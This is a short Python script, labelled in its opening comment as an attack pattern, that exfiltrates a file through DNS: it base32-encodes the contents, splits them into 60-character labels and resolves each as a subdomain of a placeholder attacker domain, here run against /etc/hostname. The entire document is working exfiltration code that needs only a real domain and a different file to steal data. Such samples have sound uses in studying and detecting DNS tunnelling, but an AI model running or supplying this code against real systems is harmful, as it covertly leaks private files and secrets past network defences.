# Attack pattern: file exfiltrated through DNS, base32-encoded and cut into 60-character labels under an attacker domain.
import base64
import socket

DOMAIN = "t.exfil.example.invalid"


def leak(path):
    data = open(path, "rb").read()
    encoded = base64.b32encode(data).decode().rstrip("=").lower()
    for i in range(0, len(encoded), 60):
        try:
            socket.gethostbyname(f"{encoded[i:i + 60]}.{i}.{DOMAIN}")
        except OSError:
            pass


leak("/etc/hostname")
